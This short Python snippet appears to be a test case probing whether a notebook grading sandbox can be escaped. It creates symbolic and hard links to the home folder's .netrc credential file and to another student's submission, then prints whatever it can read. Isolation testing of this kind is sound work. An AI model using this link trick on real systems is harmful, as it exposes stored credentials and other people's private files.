# attacks: the gradebook and the home folder, over links made by the code
# success: something secret is read
# %% before
import os

for _make in (os.symlink, os.link):
    for _target in ("@HOME@/.netrc", "@SUBMITTED@/victim/mask/mask.ipynb"):
        try:
            _make(_target, "link")
            print(open("link").read()[-2000:])
            os.unlink("link")
        except OSError as _error:
            print(_error)
